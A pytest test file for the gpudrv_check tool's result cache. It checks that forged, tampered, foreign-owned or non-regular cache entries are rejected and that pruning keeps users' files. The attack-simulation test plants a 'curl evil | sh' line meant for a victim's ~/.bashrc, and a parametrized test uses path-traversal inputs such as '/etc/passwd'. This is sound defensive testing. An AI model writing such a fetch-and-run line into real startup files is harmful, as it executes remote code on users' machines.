"""Forged and foreign cache entries (issue 23, issue 14's cache bullet): a cached result carries
findings only; this run's arguments decide every write and the exit code; an entry is bound to
its inputs by a keyed MAC; a directory or entry another user could have written is not used;
an entry that is a link, a FIFO or a device is a miss, never a read."""

from __future__ import annotations

import hashlib
import os
import stat
from pathlib import Path

import pytest

from gpudrv_check.engine.cache import store as cache_mod
from gpudrv_check.engine.cache.store import Cache
from tests.conftest import MATRIX, gpu_node, run_cli, write


def _repo(root: Path) -> Path:
    write(root, "nodes/a.yaml", gpu_node("a"))
    write(root, "nodes/b.yaml", gpu_node("b", kernel="5.15.0-999-generic"))  # GPU001: exit 1
    write(root, "support-matrix.csv", MATRIX)
    return root


def _check(root: Path, cache: Path, *extra: str, env: dict | None = None):
    return run_cli("check", str(root), "--cache-dir", str(cache), *extra, env=env)


def _forge(cache: Path, value: object) -> int:
    """Rewrite every result entry as an attacker who can write the directory would: the same
    header, the value replaced, the unkeyed SHA-256 of the payload recomputed."""
    forged = 0
    for entry in cache.glob("result-*"):
        _, key, _ = cache_mod.entry_fields(entry.read_bytes())
        magic, _, head, payload = cache_mod.entry_bytes(b"not the secret", key, value)
        rest = head + payload
        entry.write_bytes(magic + hashlib.sha256(rest).digest() + rest)
        forged += 1
    return forged


@pytest.mark.slow
def test_a_forged_result_entry_writes_nothing_and_decides_no_exit_code(tmp_path: Path):
    """The attack of issue 23: a planted entry replaying a write to the victim's ~/.bashrc, an
    "all clean" summary and exit 0 (or 7). The next plain `check` must do none of it."""
    home = tmp_path / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# the victim's own\n")
    env = {**os.environ, "HOME": str(home)}
    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
    cold = _check(root, cache, env=env)
    assert cold.returncode == 1, cold.stderr
    replay = [("stdout", "", "all clean\n"), ("file", str(bashrc), "curl evil | sh\n")]
    for code in (0, 7):
        assert _forge(cache, (code, replay)) == 1
        warm = _check(root, cache, env=env)
        assert bashrc.read_text() == "# the victim's own\n"
        assert (warm.returncode, warm.stdout) == (1, cold.stdout)


def test_an_entry_with_a_valid_mac_still_directs_no_write(tmp_path: Path):
    """Even an authentic entry holds no destination: a warm run writes its reports where its
    own --output says, and its exit code follows its own --fail-on."""
    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
    out = tmp_path / "out.json"
    cold = _check(root, cache, "--format", "json", "--output", str(out))
    assert cold.returncode == 1
    first = out.read_text()
    out.unlink()
    warm = _check(root, cache, "--format", "json", "--output", str(out))
    assert (warm.returncode, warm.stdout, out.read_text()) == (1, cold.stdout, first)
    value = Cache(cache).load("result", "x", "y")
    assert value is None  # another name, another key: a miss
    # the stored value: findings, stderr, rendered texts; no destination, no exit code
    (entry,) = cache.glob("result-*")
    stored = cache_mod.entry_fields(entry.read_bytes())[2]
    assert str(out) not in repr(stored)
    assert not any(isinstance(v, int) for v in stored)


def test_the_secret_is_private_and_the_checksum_keyed(tmp_path: Path):
    cache = Cache(tmp_path / "c")
    cache.store("files", "repo", "key", {"a": 1})
    secret = tmp_path / "c" / cache_mod.SECRET
    assert secret.stat().st_mode & 0o777 == 0o600
    assert len(secret.read_bytes()) == 32
    assert cache.load("files", "repo", "key") == {"a": 1}
    # another secret: every entry is a miss (and rewritten by the next store)
    secret.write_bytes(os.urandom(32))
    assert Cache(tmp_path / "c").load("files", "repo", "key") is None


@pytest.mark.slow
@pytest.mark.parametrize("mode", [0o777, 0o770, 0o722])
def test_a_cache_directory_open_to_others_is_not_used(tmp_path: Path, mode: int):
    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
    cache.mkdir()
    cache.chmod(mode)
    proc = _check(root, cache)
    assert proc.returncode == 1
    assert proc.stderr.count("is not used") == 1, proc.stderr  # said once, not per entry
    assert f"cache {cache} is not used" in proc.stderr and "chmod 700" in proc.stderr
    assert list(cache.iterdir()) == []  # nothing written into it either


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_a_cache_directory_or_entry_of_another_user_is_not_used(tmp_path: Path):
    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
    cold = _check(root, cache)
    os.chown(cache, 65534, 65534)
    proc = _check(root, cache)
    assert (proc.returncode, proc.stdout) == (cold.returncode, cold.stdout)
    assert proc.stderr.count("owned by another user (uid 65534)") == 1, proc.stderr
    os.chown(cache, 0, 0)
    for entry in cache.glob("result-*"):
        os.chown(entry, 65534, 65534)
    proc = _check(root, cache)
    assert "owned by another user" in proc.stderr and proc.stdout == cold.stdout


def test_entries_open_to_others_are_said_once(tmp_path: Path):
    """A cache restored with mode 0644 entries (say, by a CI cache step): not used, one line."""
    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
    cold = _check(root, cache)
    for entry in cache.iterdir():
        entry.chmod(0o644)
    proc = _check(root, cache)
    assert (proc.returncode, proc.stdout) == (cold.returncode, cold.stdout)
    assert proc.stderr.count("is not used") == 1, proc.stderr
    assert "chmod 600" in proc.stderr


def test_an_entry_readable_by_others_is_not_used(tmp_path: Path):
    cache = Cache(tmp_path / "c")
    cache.store("files", "repo", "key", {"a": 1})
    (entry,) = (tmp_path / "c").glob("files-*")
    entry.chmod(0o644)
    assert cache.load("files", "repo", "key") is None


@pytest.mark.parametrize("kind", ["symlink", "fifo", "device"])
def test_an_entry_that_is_not_a_regular_file_is_a_miss(tmp_path: Path, kind: str):
    """Replaced by a link (to an entry that would verify, or to /dev/zero), a FIFO (a read
    would block forever) or a device: a miss, never a read."""
    cache = Cache(tmp_path / "c")
    cache.store("files", "repo", "key", {"a": 1})
    (entry,) = (tmp_path / "c").glob("files-*")
    real = entry.with_name("elsewhere.bin")
    entry.rename(real)
    if kind == "symlink":
        entry.symlink_to(real)
    elif kind == "fifo":
        os.mkfifo(entry, 0o600)
    elif os.geteuid() == 0:
        os.mknod(entry, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero itself
    else:
        entry.symlink_to("/dev/zero")
    assert cache.load("files", "repo", "key") is None  # returns: a FIFO does not block it


@pytest.mark.slow
@pytest.mark.parametrize(
    "value",
    [["not", "a", "dict"], {"nodes/a.yaml": "str"}, {"nodes/a.yaml": ("d", False, b"x", 7)}, 42],
    ids=["list", "str-entry", "bad-summary", "int"],
)
def test_an_authentic_entry_of_the_wrong_type_is_a_miss(tmp_path: Path, value: object):
    """Every kind of entry (files, partitions, result) holding a value of the wrong type: the
    run is the same as without a cache, with no internal error."""
    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
    cold = _check(root, cache)
    # `touch` one file so the result entry is a miss and the files/partitions entries are read
    store = Cache(cache)
    for entry in cache.glob("*-*.bin"):
        kind = entry.name.split("-")[0]
        _, key, _ = cache_mod.entry_fields(entry.read_bytes())
        secret = (cache / cache_mod.SECRET).read_bytes()
        entry.write_bytes(b"".join(cache_mod.entry_bytes(secret, key, value)))
        assert kind in ("config", "files", "occupancy", "partitions", "result", "stamps")
    assert store.load("result", "x", "y") is None
    proc = _check(root, cache)
    assert (proc.returncode, proc.stdout) == (cold.returncode, cold.stdout), proc.stderr
    assert "internal error" not in proc.stderr and "Traceback" not in proc.stderr


def test_no_home_directory_means_no_cache_not_an_internal_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    """No $HOME and a uid without a passwd entry (a container run as an arbitrary user):
    Path.home() raises; `check` runs as with --no-cache instead of failing."""
    from gpudrv_check import cli

    def no_home() -> Path:
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    monkeypatch.setattr(Path, "home", staticmethod(no_home))
    assert cache_mod.default_dir() is None
    store = Cache(None)
    store.store("result", "x", "y", 1)
    assert store.load("result", "x", "y") is None
    root = _repo(tmp_path / "repo")
    cached = cli.main(["check", str(root), "--no-cache"])
    out = capsys.readouterr()
    assert (cli.main(["check", str(root)]), capsys.readouterr()) == (cached, out)
    assert cached == 1 and "internal error" not in out.err


def test_an_entry_of_another_key_is_a_miss_from_its_first_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """An edit changes the whole-result key: the last run's large entry is a miss, read no
    further than its header (engine/cache/store.py)."""
    cache = Cache(tmp_path / "c")
    cache.store("result", "repo", "old", ["x" * 1_000_000])
    read: list[int] = []
    real_read = cache_mod.os.read

    def counted(fd: int, n: int) -> bytes:
        data = real_read(fd, n)
        read.append(len(data))
        return data

    monkeypatch.setattr(cache_mod.os, "read", counted)
    assert cache.load("result", "repo", "new") is None
    assert 0 < sum(read) < 200
    read.clear()
    assert cache.load("result", "repo", "old") == ["x" * 1_000_000]
    assert sum(read) > 1_000_000


@pytest.mark.parametrize("rel", ["../outside.yaml", "/etc/passwd", "a/../../b", "nul\0.yaml", ""])
def test_a_result_entry_naming_a_path_outside_the_root_is_a_miss(rel: str):
    """The files a run read outside its key (`Outcome.outside`) are looked at again before an
    entry is taken: a path that leaves the root (or no path at all) makes the entry a miss,
    so nothing outside the root is ever read for it."""
    from gpudrv_check.cli.commands.check import STDOUT, Outcome

    pairs = [("text", STDOUT)]
    good = ({"error": 1}, "", [["report"]], {"apps/Kustomization": ""})
    assert Outcome.unpack(good, pairs) is not None
    assert Outcome.unpack(({"error": 1}, "", [["report"]], {rel: ""}), pairs) is None


def _age(path: Path, days: float) -> None:
    then = os.stat(path, follow_symlinks=False).st_mtime - days * 86_400
    os.utime(path, (then, then), follow_symlinks=False)


def test_entries_unused_for_a_month_and_stale_temporary_files_are_pruned(tmp_path: Path):
    """Another tool version's entries and a repo no longer checked do not fill the disk; an
    entry in use, the secret, and whatever the cache did not name stay (store.py `prune`)."""
    directory = tmp_path / "cache"
    cache = Cache(directory)
    cache.store("result", "old", "k", "old value")
    cache.store("files", "recent", "k", "recent value")
    old = cache._path("result", "old")
    _age(old, cache_mod.PRUNE_AFTER_DAYS + 1)
    _age(cache._path("files", "recent"), cache_mod.PRUNE_AFTER_DAYS - 1)
    leftover = directory / (cache_mod.TEMP_PREFIX + "abc123_x")
    leftover.write_bytes(b"half a write")
    _age(leftover, 2)
    young = directory / (cache_mod.TEMP_PREFIX + "justnow1")
    young.write_bytes(b"a write under way")
    mine = directory / "notes.txt"  # not a name the cache gives
    mine.write_text("keep")
    _age(mine, 400)
    outside = tmp_path / "outside.bin"
    outside.write_bytes(b"x")
    _age(outside, 400)
    link = directory / ("result-" + "0" * 32 + ".bin")  # named as an entry, but a link
    link.symlink_to(outside)
    os.utime(link, (0, 0), follow_symlinks=False)
    _age(directory / cache_mod.PRUNED, 2)  # the last pruning was two days ago
    assert Cache(directory).prune() == 2
    assert not old.exists() and not leftover.exists()
    assert young.exists() and mine.exists() and link.is_symlink() and outside.exists()
    assert Cache(directory).load("files", "recent", "k") == "recent value"
    assert (directory / cache_mod.SECRET).exists()


def test_pruning_runs_at_most_once_a_day(tmp_path: Path):
    directory = tmp_path / "cache"
    cache = Cache(directory)
    cache.store("result", "a", "k", 1)  # prunes (nothing to prune) and marks the day
    _age(cache._path("result", "a"), cache_mod.PRUNE_AFTER_DAYS + 5)
    assert Cache(directory).prune() == 0  # pruned today already: the entry stays
    assert cache._path("result", "a").exists()
    _age(directory / cache_mod.PRUNED, 1.5)
    Cache(directory).store("result", "b", "k", 2)  # the next run that stores prunes
    assert not cache._path("result", "a").exists()


def test_an_entry_taken_is_marked_used(tmp_path: Path):
    directory = tmp_path / "cache"
    cache = Cache(directory)
    cache.store("result", "a", "k", "value")
    path = cache._path("result", "a")
    _age(path, cache_mod.PRUNE_AFTER_DAYS - 1)
    assert Cache(directory).load("result", "a", "other key") is None  # a miss: not marked
    assert os.stat(path).st_mtime < os.path.getmtime(directory / cache_mod.SECRET)
    assert Cache(directory).load("result", "a", "k") == "value"
    _age(directory / cache_mod.PRUNED, 2)
    assert Cache(directory).prune() == 0 and path.exists()  # used today: not pruned


def test_a_cache_directory_that_holds_the_users_files_loses_none_of_them(tmp_path: Path):
    """`--cache-dir` may name a directory of the user's own files: pruning removes only the
    names the cache gives (found by review: `.tmp-notes` and `backup-<hex>.bin` went)."""
    directory = tmp_path / "mine"
    directory.mkdir(mode=0o700)
    theirs = [
        ".tmp-notes",
        ".tmp-abcdefgh",
        "backup-0123456789abcdef0123456789abcdef.bin",
        "files-0123456789abcdef0123456789abcdef.bin.orig",
        cache_mod.TEMP_PREFIX + "notes",
    ]
    for name in theirs:
        (directory / name).write_text("data")
        _age(directory / name, 400)
    cache = Cache(directory)
    cache.store("result", "a", "k", 1)
    _age(directory / cache_mod.PRUNED, 2)
    assert Cache(directory).prune() == 0
    assert all((directory / name).exists() for name in theirs)


def test_pruning_needs_a_directory_the_cache_may_use(tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    stray = tmp_path / (cache_mod.TEMP_PREFIX + "abcdefgh")
    stray.write_text("x")
    _age(stray, 3)
    assert Cache(None).prune() == 0 and stray.exists()  # no cache: nothing looked at
    shared = tmp_path / "shared"
    Cache(shared).store("result", "a", "k", 1)
    entry = Cache(shared)._path("result", "a")
    _age(entry, cache_mod.PRUNE_AFTER_DAYS + 1)
    _age(shared / cache_mod.PRUNED, 2)
    shared.chmod(0o777)  # open to others: not used, so not pruned either
    try:
        assert Cache(shared).prune() == 0 and entry.exists()
    finally:
        shared.chmod(0o700)
    with pytest.raises(ValueError):
        Cache(shared).store("other", "a", "k", 1)


_STREAMED = [
    ({"error": 3}, "stderr text\n", [["piece one " * 1000, "piece two é"], []], {"a.yaml": ""}),
    (1, ("x", ["y", ("z", 2.5, None, True)]), [], b"bytes", {"k": [1, 2]}),
    [("same",) * 3, ["same"] * 3, "same", "same"],  # shared: written again, never referred to
    (),
]


@pytest.mark.parametrize("value", _STREAMED)
def test_a_streamed_entry_reads_back_as_the_value_and_is_checked_as_any_entry(
    tmp_path: Path, value: object
):
    import marshal

    payload = b"".join(cache_mod.stream_payload(value))
    assert marshal.loads(payload) == value
    assert type(marshal.loads(payload)) is type(value)
    cache = Cache(tmp_path / "c")
    cache.store("result", "repo", "key-1", value, streamed=True)
    assert cache.load("result", "repo", "key-1") == value
    assert cache.load("result", "repo", "key-2") is None  # another key: a miss
    (entry,) = (tmp_path / "c").glob("result-*.bin")
    blob = bytearray(entry.read_bytes())
    assert cache_mod.entry_fields(bytes(blob))[2] == value
    blob[-1] ^= 1  # one bit of the payload changed: the MAC no longer holds
    entry.write_bytes(bytes(blob))
    assert Cache(tmp_path / "c").load("result", "repo", "key-1") is None
    assert not list((tmp_path / "c").glob(cache_mod.TEMP_PREFIX + "*"))


def test_a_value_marshal_cannot_write_is_not_stored_when_streamed(tmp_path: Path):
    cache = Cache(tmp_path / "c")
    cache.store("result", "repo", "key", ("ok", [object()]), streamed=True)
    assert not list((tmp_path / "c").glob("result-*"))
    assert not list((tmp_path / "c").glob(cache_mod.TEMP_PREFIX + "*"))


def test_a_streamed_entry_never_dumps_the_whole_value_at_once(tmp_path: Path, monkeypatch):
    # the point of streaming: the report's pieces are dumped one by one, never the value whole
    import marshal

    pieces = [f"piece {i} " * 1000 for i in range(5)]
    value = ({"error": 1}, "", [pieces], {})
    dumped: list[object] = []
    real = marshal.dumps

    def dumps(obj, *args):
        dumped.append(obj)
        return real(obj, *args)

    monkeypatch.setattr(cache_mod.marshal, "dumps", dumps)
    cache = Cache(tmp_path / "c")
    cache.store("result", "repo", "key", value, streamed=True)
    assert value not in dumped and pieces not in dumped
    assert all(piece in dumped for piece in pieces)
    monkeypatch.setattr(cache_mod.marshal, "dumps", real)
    assert cache.load("result", "repo", "key") == value


def test_a_temporary_file_is_made_as_tempfile_makes_one_and_never_through_a_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """store.py `_mkstemp` stands for `tempfile.mkstemp` (CPython Lib/tempfile.py `mkstemp`,
    `_mkstemp_inner`): a new file, mode 0600, opened with O_CREAT|O_EXCL|O_NOFOLLOW, named
    as the prune recognises (`_TEMP_NAME`), its path absolute; a name already taken, by a
    file or by a link to one outside, is passed over and left as it was, up to TMP_MAX
    tries."""
    directory = tmp_path / "cache"
    directory.mkdir(mode=0o700)
    fd, made = cache_mod._mkstemp(dir=directory, prefix=cache_mod.TEMP_PREFIX)
    os.close(fd)
    assert cache_mod._TEMP_NAME.match(os.path.basename(made))
    assert stat.S_IMODE(os.stat(made).st_mode) == 0o600 and os.path.getsize(made) == 0
    outside = tmp_path / "outside"
    outside.write_bytes(b"theirs")
    draws = iter([bytes(8), bytes([2] * 8), bytes([1] * 8)])  # two names taken, a free one
    monkeypatch.setattr(cache_mod.os, "urandom", lambda n: next(draws))
    taken = directory / (cache_mod.TEMP_PREFIX + "a" * 8)
    taken.symlink_to(outside)
    busy = directory / (cache_mod.TEMP_PREFIX + "c" * 8)
    busy.write_bytes(b"a write under way")
    fd, made = cache_mod._mkstemp(dir=directory, prefix=cache_mod.TEMP_PREFIX)
    os.close(fd)
    assert os.path.basename(made) == cache_mod.TEMP_PREFIX + "b" * 8
    assert taken.is_symlink() and outside.read_bytes() == b"theirs"
    assert busy.read_bytes() == b"a write under way"
    monkeypatch.setattr(cache_mod.os, "urandom", lambda n: bytes(8))  # every name taken
    monkeypatch.setattr(cache_mod.os, "TMP_MAX", 3, raising=False)  # as many tries as tempfile
    with pytest.raises(FileExistsError):
        cache_mod._mkstemp(dir=directory, prefix=cache_mod.TEMP_PREFIX)
    monkeypatch.undo()
    monkeypatch.chdir(tmp_path)  # a relative folder: the path made absolute, as tempfile's
    fd, made = cache_mod._mkstemp(dir="cache", prefix=cache_mod.TEMP_PREFIX)
    os.close(fd)
    assert os.path.isabs(made) and os.path.dirname(made) == str(directory)
